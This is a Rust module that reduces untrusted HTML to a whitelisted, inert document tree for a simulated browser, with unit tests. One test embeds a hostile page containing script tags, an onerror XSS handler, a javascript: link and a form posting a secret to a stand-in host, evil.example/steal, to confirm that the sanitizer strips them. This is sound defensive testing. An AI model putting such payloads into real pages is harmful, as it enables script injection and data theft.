//! Untrusted HTML reduced to a small, inert document tree for the browser
//! window.
//!
//! Lab pages travel in share links, so a page is hostile until proven
//! otherwise. [`sanitize`] keeps only text and a whitelist of structural
//! elements ([`Tag`]); every attribute is dropped except the `href` of `<a>`
//! (kept as text, never fetched: the app resolves it against the page's URL
//! and navigates the *simulated* browser). The content of `<script>`,
//! `<style>`, `<title>`, `<head>`, `<template>`, `<iframe>`, `<noscript>`,
//! `<textarea>`, `<svg>`, `<math>`, `<object>` and `<select>` is dropped
//! whole; any other unknown element (`<img>`, `<form>`, `<input>`, `<div
//! onclick>`) loses its tag and attributes but keeps its text. The result
//! has no way to name a script, an event handler, a style or a resource.
//! Bounded: at most [`MAX_DEPTH`] levels and [`MAX_NODES`] nodes; never
//! panics.

use super::html::{decode_entities, find_ci, parse_tag};

/// Deepest nesting kept; deeper elements are flattened into their parent.
pub const MAX_DEPTH: usize = 48;
/// Most nodes kept; the rest of a larger page is cut off.
pub const MAX_NODES: usize = 20_000;

/// An element the sanitized document may contain.
#[derive(Copy, Clone, Debug, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum Tag {
    H1,
    H2,
    H3,
    H4,
    H5,
    H6,
    P,
    Ul,
    Ol,
    Li,
    A,
    B,
    I,
    Em,
    Strong,
    U,
    Small,
    Br,
    Hr,
    Table,
    Thead,
    Tbody,
    Tr,
    Th,
    Td,
    Pre,
    Code,
    Blockquote,
    Div,
    Span,
}

impl Tag {
    /// The whitelisted tag of a lower-case element name.
    pub fn from_name(name: &str) -> Option<Tag> {
        use Tag::*;
        Some(match name {
            "h1" => H1,
            "h2" => H2,
            "h3" => H3,
            "h4" => H4,
            "h5" => H5,
            "h6" => H6,
            "p" => P,
            "ul" => Ul,
            "ol" => Ol,
            "li" => Li,
            "a" => A,
            "b" => B,
            "i" => I,
            "em" => Em,
            "strong" => Strong,
            "u" => U,
            "small" => Small,
            "br" => Br,
            "hr" => Hr,
            "table" => Table,
            "thead" => Thead,
            "tbody" => Tbody,
            "tr" => Tr,
            "th" => Th,
            "td" => Td,
            "pre" => Pre,
            "code" => Code,
            "blockquote" => Blockquote,
            "div" | "section" | "article" | "main" | "header" | "footer" | "nav" | "center"
            | "body" => Div,
            "span" | "font" => Span,
            _ => return None,
        })
    }

    /// Whether the element never has content.
    pub fn is_void(self) -> bool {
        matches!(self, Tag::Br | Tag::Hr)
    }
}

/// A node of the sanitized document.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Node {
    /// Text, entities decoded (shown as text, never parsed again).
    Text(String),
    /// A whitelisted element.
    Element {
        /// Which.
        tag: Tag,
        /// For `<a>`: the `href` as written (entities decoded, not resolved).
        href: Option<String>,
        /// Content.
        children: Vec<Node>,
    },
}

/// Elements whose whole content is dropped.
const DROP_CONTENT: &[&str] = &[
    "script",
    "style",
    "title",
    "head",
    "template",
    "iframe",
    "noscript",
    "noembed",
    "noframes",
    "textarea",
    "xmp",
    "svg",
    "math",
    "object",
    "select",
    "plaintext",
];

struct Builder {
    /// Open elements: tag, href, children. The root is index 0.
    stack: Vec<(Option<Tag>, Option<String>, Vec<Node>)>,
    nodes: usize,
}

impl Builder {
    fn push_node(&mut self, n: Node) {
        if self.nodes >= MAX_NODES {
            return;
        }
        self.nodes += 1;
        if let Some(top) = self.stack.last_mut() {
            top.2.push(n);
        }
    }

    fn text(&mut self, t: &str) {
        if t.is_empty() {
            return;
        }
        let t = decode_entities(t);
        // Merge with a preceding text node.
        if let Some(top) = self.stack.last_mut()
            && let Some(Node::Text(prev)) = top.2.last_mut()
        {
            prev.push_str(&t);
            return;
        }
        self.push_node(Node::Text(t));
    }

    fn open(&mut self, tag: Tag, href: Option<String>) {
        if tag.is_void() {
            self.push_node(Node::Element {
                tag,
                href: None,
                children: Vec::new(),
            });
            return;
        }
        // A new <a>, <p> or <li> closes an open one of the same kind, as
        // browsers do; links never nest.
        if matches!(tag, Tag::A | Tag::P | Tag::Li)
            && let Some(pos) = self.stack.iter().rposition(|e| e.0 == Some(tag))
        {
            self.close_to(pos);
        }
        if self.stack.len() > MAX_DEPTH || self.nodes >= MAX_NODES {
            return;
        }
        self.stack.push((Some(tag), href, Vec::new()));
    }

    fn close(&mut self, tag: Tag) {
        if let Some(pos) = self.stack.iter().rposition(|e| e.0 == Some(tag)) {
            self.close_to(pos);
        }
    }

    /// Closes every element from `pos` up.
    fn close_to(&mut self, pos: usize) {
        while self.stack.len() > pos.max(1) {
            let (tag, href, children) = self.stack.pop().expect("len > 1");
            let Some(tag) = tag else { continue };
            self.push_node_uncounted(Node::Element {
                tag,
                href,
                children,
            });
        }
    }

    fn push_node_uncounted(&mut self, n: Node) {
        self.nodes += 1;
        if let Some(top) = self.stack.last_mut() {
            top.2.push(n);
        }
    }

    fn finish(mut self) -> Vec<Node> {
        self.close_to(1);
        self.stack.pop().map(|r| r.2).unwrap_or_default()
    }
}

/// Reduces `html` to whitelisted elements and text (see the module docs).
pub fn sanitize(html: &str) -> Vec<Node> {
    let mut b = Builder {
        stack: vec![(None, None, Vec::new())],
        nodes: 0,
    };
    let len = html.len();
    let mut i = 0;
    while i < len {
        let Some(off) = html[i..].find('<') else {
            b.text(&html[i..]);
            break;
        };
        let lt = i + off;
        b.text(&html[i..lt]);
        let rest = &html[lt..];
        if rest.starts_with("<!--") {
            i = html[lt + 4..].find("-->").map_or(len, |e| lt + 4 + e + 3);
            continue;
        }
        if rest.starts_with("<!") || rest.starts_with("<?") {
            i = html[lt..].find('>').map_or(len, |e| lt + e + 1);
            continue;
        }
        let Some(tag) = parse_tag(html, lt) else {
            b.text("<");
            i = lt + 1;
            continue;
        };
        i = tag.end.min(len).max(lt + 1);
        if !tag.closing && DROP_CONTENT.contains(&tag.name.as_str()) {
            let close = format!("</{}", tag.name);
            i = match find_ci(html, i, &close) {
                Some(c) => html[c..].find('>').map_or(len, |e| c + e + 1),
                None => len,
            };
            continue;
        }
        let Some(t) = Tag::from_name(&tag.name) else {
            continue; // unknown element: tag and attributes dropped, text kept
        };
        if tag.closing {
            b.close(t);
        } else {
            let href = if t == Tag::A { tag.href } else { None };
            b.open(t, href);
        }
    }
    b.finish()
}

/// The text of a sanitized document, whitespace collapsed (for tests and
/// screen-reader summaries).
pub fn text_of(nodes: &[Node]) -> String {
    fn walk(n: &[Node], out: &mut String) {
        for x in n {
            match x {
                Node::Text(t) => out.push_str(t),
                Node::Element { children, tag, .. } => {
                    if !matches!(
                        tag,
                        Tag::B | Tag::I | Tag::Em | Tag::Strong | Tag::A | Tag::Span
                    ) {
                        out.push(' ');
                    }
                    walk(children, out);
                }
            }
        }
    }
    let mut s = String::new();
    walk(nodes, &mut s);
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn all_hrefs(n: &[Node], out: &mut Vec<String>) {
        for x in n {
            if let Node::Element { href, children, .. } = x {
                out.extend(href.clone());
                all_hrefs(children, out);
            }
        }
    }

    #[test]
    fn hostile_page_keeps_only_text_and_links() {
        let page = r#"<html><head><title>T</title><script>window.top.pwned=1</script>
            <style>body{background:url(http://evil.example/x)}</style></head>
            <body onload="pwn()"><h1 style="color:red">Hello</h1>
            <img src=x onerror="document.title='pwned'">
            <img src="http://203.0.113.9/track.png">
            <p>Text <a href="javascript:alert(1)">js</a> and <a href="about.html" onclick="x()">About</a></p>
            <form action="http://evil.example/steal" method="post"><input name=q value=secret><button>Go</button></form>
            <SCRIPT >also()</SCRIPT >
            <iframe src="http://evil.example"></iframe>
            <svg><script>svgjs()</script></svg>
            </body></html>"#;
        let doc = sanitize(page);
        let text = text_of(&doc);
        assert_eq!(text, "Hello Text js and About Go");
        let mut hrefs = Vec::new();
        all_hrefs(&doc, &mut hrefs);
        assert_eq!(hrefs, ["javascript:alert(1)", "about.html"]);
        let dbg = format!("{doc:?}");
        for bad in [
            "pwn",
            "onerror",
            "evil",
            "203.0.113.9",
            "secret",
            "style",
            "also",
        ] {
            assert!(!dbg.contains(bad), "{bad} survived: {dbg}");
        }
    }

    #[test]
    fn structure_and_entities() {
        let doc = sanitize("<ul><li>a &amp; b<li>c</ul><p>x<br>y");
        assert_eq!(
            doc,
            vec![
                Node::Element {
                    tag: Tag::Ul,
                    href: None,
                    children: vec![
                        Node::Element {
                            tag: Tag::Li,
                            href: None,
                            children: vec![Node::Text("a & b".into())]
                        },
                        Node::Element {
                            tag: Tag::Li,
                            href: None,
                            children: vec![Node::Text("c".into())]
                        },
                    ]
                },
                Node::Element {
                    tag: Tag::P,
                    href: None,
                    children: vec![
                        Node::Text("x".into()),
                        Node::Element {
                            tag: Tag::Br,
                            href: None,
                            children: vec![]
                        },
                        Node::Text("y".into())
                    ]
                },
            ]
        );
    }

    #[test]
    fn broken_and_deep_input_is_bounded() {
        for s in [
            "<",
            "<a",
            "<a href='x",
            "<!--",
            "<script>",
            "</p></p><",
            "&#xffffffff;",
            "<\u{e9}>",
        ] {
            let _ = sanitize(s);
        }
        let deep = "<div>".repeat(10_000) + "x";
        let doc = sanitize(&deep);
        assert_eq!(text_of(&doc), "x");
        let wide = "<b>x</b>".repeat(50_000);
        let doc = sanitize(&wide);
        assert!(doc.len() <= MAX_NODES);
    }
}
